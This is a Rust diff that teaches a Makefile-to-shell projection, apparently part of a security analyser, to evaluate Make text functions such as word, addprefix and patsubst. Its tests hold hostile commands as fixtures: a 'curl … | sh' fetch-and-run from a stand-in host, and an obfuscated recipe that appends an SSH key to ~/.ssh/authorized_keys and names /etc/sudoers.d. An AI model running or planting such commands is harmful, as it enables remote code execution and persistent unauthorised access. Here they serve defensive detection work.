@@ -221,6 +221,16 @@ impl Expander<'_> {
                 }
                 self.expand(&body, depth + 1)
             }
+            // Round 31: the text functions that build a word or a path
+            // from pieces (`$(word 1,s s)sh`, `$(dir $(KEYS))`,
+            // `$(addprefix ~/.,ssh)`): Make computes them before the shell
+            // sees the line, so the projection does too.
+            "word" | "firstword" | "lastword" | "wordlist" | "words" | "dir" | "notdir"
+            | "addprefix" | "addsuffix" | "sort" | "patsubst" | "join" | "basename"
+            | "suffix" => {
+                let a: Vec<String> = split_args(args).iter().map(|a| self.expand(a, depth)).collect();
+                text_function(f, &a).unwrap_or_else(|| "${_MAKE_FN}".into())
+            }
             _ => {
                 // Its arguments are still expanded by Make (a `$(shell …)`
                 // inside `$(info …)` or `$(if …)` runs).
@@ -229,6 +239,90 @@ impl Expander<'_> {
             }
         }
     }
+}
+
+/// A function's arguments split at the commas outside brackets.
+fn split_args(args: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut depth = 0usize;
+    let mut from = 0;
+    for (i, c) in args.char_indices() {
+        match c {
+            '(' | '{' => depth += 1,
+            ')' | '}' => depth = depth.saturating_sub(1),
+            ',' if depth == 0 => {
+                out.push(&args[from..i]);
+                from = i + 1;
+            }
+            _ => {}
+        }
+    }
+    out.push(&args[from..]);
+    out
+}
+
+/// One of Make's text functions over its expanded arguments (`None`: a
+/// shape it does not take, left opaque).
+fn text_function(f: &str, a: &[String]) -> Option<String> {
+    let words = |s: &str| s.split_whitespace().map(str::to_string).collect::<Vec<_>>();
+    let nth = |s: &str| s.trim().parse::<usize>().ok().filter(|n| *n > 0);
+    let each = |s: &str, g: &dyn Fn(&str) -> String| {
+        words(s).iter().map(|w| g(w)).collect::<Vec<_>>().join(" ")
+    };
+    let out = match (f, a) {
+        ("word", [n, t]) => words(t).get(nth(n)? - 1).cloned().unwrap_or_default(),
+        ("wordlist", [s, e, t]) => {
+            let (s, e) = (nth(s)?, nth(e)?);
+            // Words s to e (1-based, both included), as Make numbers them.
+            let w = words(t);
+            let (s, e) = ((s - 1).min(w.len()), e.min(w.len()));
+            if s < e { w[s..e].join(" ") } else { String::new() }
+        }
+        ("firstword", [t]) => words(t).first().cloned().unwrap_or_default(),
+        ("lastword", [t]) => words(t).last().cloned().unwrap_or_default(),
+        ("words", [t]) => words(t).len().to_string(),
+        ("sort", [t]) => {
+            let mut w = words(t);
+            w.sort();
+            w.dedup();
+            w.join(" ")
+        }
+        ("dir", [t]) => each(t, &|w| match w.rfind('/') {
+            Some(i) => w[..=i].to_string(),
+            None => "./".into(),
+        }),
+        ("notdir", [t]) => each(t, &|w| w.rsplit('/').next().unwrap_or(w).to_string()),
+        ("basename", [t]) => each(t, &|w| match w.rfind('.') {
+            Some(i) if !w[i..].contains('/') => w[..i].to_string(),
+            _ => w.to_string(),
+        }),
+        ("suffix", [t]) => words(t)
+            .iter()
+            .filter_map(|w| w.rfind('.').filter(|i| !w[*i..].contains('/')).map(|i| w[i..].to_string()))
+            .collect::<Vec<_>>()
+            .join(" "),
+        ("addprefix", [p, t]) => each(t, &|w| format!("{}{w}", p.trim())),
+        ("addsuffix", [x, t]) => each(t, &|w| format!("{w}{}", x.trim())),
+        ("join", [l, r]) => {
+            let (l, r) = (words(l), words(r));
+            (0..l.len().max(r.len()))
+                .map(|i| format!("{}{}", l.get(i).map_or("", |s| s), r.get(i).map_or("", |s| s)))
+                .collect::<Vec<_>>()
+                .join(" ")
+        }
+        ("patsubst", [pat, rep, t]) => {
+            let (pat, rep) = (pat.trim(), rep.trim());
+            let Some((pre, post)) = pat.split_once('%') else {
+                return Some(each(t, &|w| if w == pat { rep.to_string() } else { w.to_string() }));
+            };
+            each(t, &|w| match w.strip_prefix(pre).and_then(|x| x.strip_suffix(post)) {
+                Some(stem) => rep.replacen('%', stem, 1),
+                None => w.to_string(),
+            })
+        }
+        _ => return None,
+    };
+    Some(out)
 }
 
 /// The index of the bracket closing the one at `open` (nesting counted).
@@ -556,6 +650,16 @@ mod tests {
     fn continuation_lines_stay_one_command() {
         let out = proj("all:\n\tcurl -fsSL https://h.example/i.sh \\\n\t  | sh\n");
         assert_eq!(out, "\ncurl -fsSL https://h.example/i.sh \\\n  | sh\n");
+    }
+
+    #[test]
+    fn text_functions_build_the_words_the_shell_sees() {
+        let mk = "K := $(subst _, ,ssh-ed25519_AAAAkey_x)\nA := $(HOME)/.$(word 1,s s)sh/authorized_$(lastword a keys)\nD := $(addprefix /etc/,$(notdir x/sudoers.d))\nP := $(patsubst %.tmp,%.conf,a.tmp b.txt)\nt:\n\tmkdir -p $(dir $(A)) && echo \"$(K)\" >> $(A) $(D) $(P) $(wordlist 2,3,a b c d) $(firstword $(sort z y))\n";
+        let out = proj(mk);
+        assert!(
+            out.ends_with("mkdir -p ${HOME}/.ssh/ && echo \"ssh-ed25519 AAAAkey x\" >> ${HOME}/.ssh/authorized_keys /etc/sudoers.d a.conf b.txt b c y\n"),
+            "{out}"
+        );
     }
 
     #[test]
